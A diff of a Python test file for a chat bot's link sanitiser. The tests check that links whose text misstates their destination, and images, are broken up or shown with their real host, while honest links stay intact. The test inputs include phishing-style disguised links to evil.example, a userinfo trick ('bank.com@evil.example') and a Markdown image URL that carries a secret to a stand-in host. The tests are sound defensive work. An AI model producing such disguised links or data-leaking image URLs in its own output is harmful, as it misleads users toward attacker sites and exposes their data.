@@ -1,75 +1,142 @@
-"""Links that lie about where they lead, and images, become text; all others stay."""
+"""Links that lie about where they lead, and images, become text, or show their host; all others stay."""
 
 from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+from typing import Any
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from bot.core.disguise import BREAK, undisguised
+from bot.core.disguise import undisguised
+from bot.core.markdown_inline import BREAK
+from bot.core.safety import restored
+from bot.core.slack_markdown import for_slack
+from bot.playground.markdown_blocks import translated
+from tests.sample_links import HONEST, LYING
+
+Link = tuple[str, str]
+SIGNS = [
+    "[",
+    "]",
+    "(",
+    ")",
+    "<",
+    ">",
+    "|",
+    "!",
+    "`",
+    "\n",
+    "]: ",
+    "https://a.com",
+    "b.org",
+    " x",
+    "\\",
+    "&#46;",
+]
+
+
+def links(blocks: object) -> Iterator[Link]:
+    """The address and the text of each link and each date that leads somewhere; neighbours are one."""
+    if isinstance(blocks, dict):
+        for value in blocks.values():
+            yield from links(value)
+    elif isinstance(blocks, list):
+        last: Link | None = None
+        for each in blocks:
+            found = link_in(each)
+            if last and (found is None or found[0] != last[0]):
+                yield last
+                last = None
+            if found:
+                last = (found[0], (last[1] if last else "") + found[1])
+            else:
+                yield from links(each)
+        yield from [last] if last else []
+
+
+def link_in(element: Any) -> Link | None:
+    if not isinstance(element, dict) or "url" not in element:
+        return None
+    url = str(element["url"])
+    return unseen(url), unseen(str(element.get("text", element.get("fallback", url))))
+
+
+def unseen(text: str) -> str:
+    return re.sub("[\u200b\u2060]", "", text)
+
+
+def shown(text: str) -> list[Link]:
+    return list(links(translated(for_slack(text))))
+
+
+def lies(url: str, text: str) -> bool:
+    """Tell whether a reader of `text` is led astray; what lies here leads to evil.example, or looks alike."""
+    if not re.match(r"(?i)(?:https?:|mailto:|tel:)", url):
+        return True
+    if text == url:
+        return "@" in url.partition("//")[2] or not (url.isascii() or "。" in url)
+    return not re.search(r"evil(?:\.example)?|\(xn--", text)
+
+
+@pytest.mark.parametrize("text", LYING)
+def test_no_link_leads_elsewhere_than_it_says(text: str) -> None:
+    assert [link for link in shown(text) if lies(*link)] == []
+
+
+@pytest.mark.parametrize("text", LYING)
+def test_no_link_lies_while_a_text_grows(text: str) -> None:
+    """What leads to the host that it shows, since the rest of that is not written yet, leads there."""
+    for end in range(len(text)):
+        for url, label in shown(text[:end]):
+            assert not lies(url, label) or re.match(r"\w+:/*(?:\w+[.@])*\w*(?:\.c?o?m?)?[/:?#]?\Z", url)
+
+
+@pytest.mark.parametrize(("text", "label"), HONEST)
+def test_honest_links_stay_links(text: str, label: str) -> None:
+    labels = [words.removeprefix("mailto:") for _, words in shown(text)]
+
+    assert [
+        each for each in labels if each == label or re.fullmatch(rf"{re.escape(label)} \([a-z.]+\)", each)
+    ]
 
 
 @pytest.mark.parametrize(
-    "text",
+    ("text", "words"),
     [
-        "[https://bank.com](https://evil.example/x)",
-        "[bank.com](https://evil.example)",
-        "[Log in at www.bank.com now](http://evil.example)",
-        "[https://bank.com](https://bank.com.evil.example)",
-        "[https://bank.com](https://bank.com@evil.example)",
-        "[**https://bank.com**](<https://evil.example>)",
-        "<https://evil.example|https://bank.com>",
-        "[은행 https://bank.co.kr 입니다](https://evil.example)",
-        "![a picture](https://evil.example/?said=secret)",
-        "![a picture][there]",
+        ("[socket.io](https://github.com/socketio/socket.io)", "socket.io (github.com)"),
+        ("[bank.zone](https://www.evil.example/x)", "bank.zone (evil.example)"),
+        ("[asyncio.run](https://문서.example)", "asyncio.run (xn--z92bu1i.example)"),
     ],
 )
-def test_what_leads_elsewhere_or_is_fetched_unasked_is_broken_and_reads_the_same(text: str) -> None:
-    broken = undisguised(text)
+def test_a_name_that_may_be_a_host_shows_where_it_leads(text: str, words: str) -> None:
+    ((_, label),) = shown(text)
 
-    assert broken != text
-    assert broken.replace(BREAK, "") == text
-    assert undisguised(broken) == broken
-    assert "](" not in broken or "![" not in broken
+    assert label == words
+    assert for_slack(for_slack(text)) == for_slack(text)
+    assert restored(for_slack(text)) == text
 
 
 @pytest.mark.parametrize(
-    "text",
-    [
-        "[the documentation](https://docs.python.org/3/)",
-        "[docs.python.org](https://docs.python.org/3/library/re.html)",
-        "[python.org](https://docs.python.org)",
-        "[https://www.python.org](https://python.org)",
-        "[Node.js](https://nodejs.org/en)",
-        "[`bot/core/safety.py`](https://github.com/ours/duet)",
-        "[version 3.12.1](https://docs.python.org)",
-        "[write to ada@bank.com](https://ours.example)",
-        "[한국어 문서](https://docs.python.org/ko/3/)",
-        "<https://docs.python.org|the documentation>",
-        "<https://docs.python.org>",
-        "Hello! [see](https://python.org)",
-        "a[0](1) and x = y[i](https)",
-    ],
+    "text", ["![a picture](https://evil.example/?said=secret)", "![a][b]\n\n[b]: https://x.example"]
 )
-def test_honest_links_stay_as_they_are(text: str) -> None:
-    assert undisguised(text) == text
+def test_images_are_links(text: str) -> None:
+    assert for_slack(text).startswith(f"!{BREAK}[a")
 
 
-@given(
-    st.lists(
-        st.sampled_from(["[", "]", "(", ")", "<", ">", "|", "!", "https://a.com", "b.org", " x"]), max_size=40
-    )
-)
+def test_code_shows_what_is_written_and_words_beside_it_do_not() -> None:
+    code = "`[bank.com](https://evil.example)` <https://evil.example|bank.com>"
+
+    assert for_slack(code) == code.replace("<", f"<{BREAK}")
+
+
+@given(st.lists(st.sampled_from(SIGNS), max_size=40))
 def test_nothing_is_changed_but_by_breaks_and_doing_it_twice_changes_nothing(pieces: list[str]) -> None:
     text = "".join(pieces)
-    once = undisguised(text)
+    for change in (undisguised, for_slack):
+        once = change(text)
 
-    assert once.replace(BREAK, "") == text
-    assert undisguised(once) == once
-
-
-@pytest.mark.parametrize("piece", ["[", "[a](", "[a](https://", "<https://a|", "!["])
-def test_a_hundred_thousand_characters_of_broken_links_are_read_in_one_go(piece: str) -> None:
-    text = piece * (100_000 // len(piece))
-
-    assert undisguised(text).replace(BREAK, "") == text
+        assert re.sub(r"\u2060 \([^)]*\)\u2060|[\u200b\u2060]", "", once) == text
+        assert change(once) == once
